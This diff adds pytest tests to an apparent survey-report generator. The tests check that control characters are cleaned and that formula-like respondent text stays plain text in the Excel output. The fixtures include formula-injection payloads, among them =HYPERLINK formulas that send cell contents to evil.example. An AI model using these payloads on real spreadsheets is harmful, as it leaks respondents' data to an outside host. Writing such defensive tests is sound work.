@@ -638,3 +638,80 @@ summarize({str(built.db)!r}, "2025-01", load(), {SERVICES!r}, 3)
 print(json.dumps(sorted(m for m in ("pandas", "matplotlib") if m in sys.modules)))
 """
     assert printed_by(script, timeout=60) == []
+
+
+# -- respondents' text (issue 11, points 4 and 5) -------------------------------------------------
+
+# As old rows may hold them: stored before the bot cleaned what respondents type.
+CONTROL_NAME = "Bu\x0bdi\x1b[0m Santoso\uffff"
+CONTROL_INSTITUTION = "PT\x1b Maju\x0b Jaya\x7f"
+CONTROL_SUGGESTION = "Antrian\x00 lebih\x0bcepat\x1b\uffff"
+FORMULAS = {
+    "name": '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
+    "institution": "+62 812 3456",
+    "suggestion": '=HYPERLINK("http://evil.example/?d="&B2,"Klik")',
+}
+MORE_FORMULAS = ("-Budi", "@SUM(A1)", "\tTab Jaya", "=1+1")
+
+
+def test_control_characters_in_stored_text_cannot_break_the_report(
+    tmp_path: Path, questionnaire: Questionnaire
+) -> None:
+    survey = january_2025(tmp_path / "survey.db")
+    survey.add(
+        "2025-01",
+        "2025-01-20T03:00:00+00:00",
+        identity={"name": CONTROL_NAME, "institution": CONTROL_INSTITUTION},
+        suggestion=CONTROL_SUGGESTION,
+    )
+    files = build_report(
+        survey.path, "2025-01", questionnaire, SERVICES, 5, tmp_path / "out", include_personal=True
+    )
+    cleaned = ("Bu di[0m Santoso", "PT Maju  Jaya", "Antrian lebih cepat")
+    for found in (docx_text(files.docx), xlsx_text(files.xlsx)):
+        assert all(text in found for text in cleaned)
+        assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", found)
+    assert all(path.stat().st_size > 1000 for path in files.charts.values())
+
+
+def test_respondent_text_that_looks_like_a_formula_stays_plain_text(
+    tmp_path: Path, questionnaire: Questionnaire
+) -> None:
+    survey = january_2025(tmp_path / "survey.db")
+    survey.add(
+        "2025-01",
+        "2025-01-20T03:00:00+00:00",
+        identity={"name": FORMULAS["name"], "institution": FORMULAS["institution"]},
+        suggestion=FORMULAS["suggestion"],
+    )
+    for n, text in enumerate(MORE_FORMULAS):
+        survey.add(
+            "2025-01",
+            f"2025-01-2{n + 1}T03:00:00+00:00",
+            identity={"name": text, "institution": text},
+            suggestion=f"{text} saran",
+        )
+    path = build_workbook(
+        survey.path, "2025-01", questionnaire, SERVICES, 10, tmp_path, include_personal=True
+    )
+    book = openpyxl.load_workbook(path)
+    try:
+        cells = {
+            (sheet.title, cell.value): cell.data_type
+            for sheet in book
+            for row in sheet.iter_rows()
+            for cell in row
+            if cell.value is not None
+        }
+    finally:
+        book.close()
+    expected = [
+        ("Responden", FORMULAS["name"]),
+        ("Responden", FORMULAS["institution"]),
+        ("Saran", FORMULAS["name"]),
+        ("Saran", FORMULAS["suggestion"]),
+        *(("Responden", text) for text in MORE_FORMULAS),
+        *(("Saran", f"{text} saran".strip()) for text in MORE_FORMULAS),
+    ]
+    assert {key: cells.get(key) for key in expected} == {key: "s" for key in expected}
+    assert "f" not in cells.values()
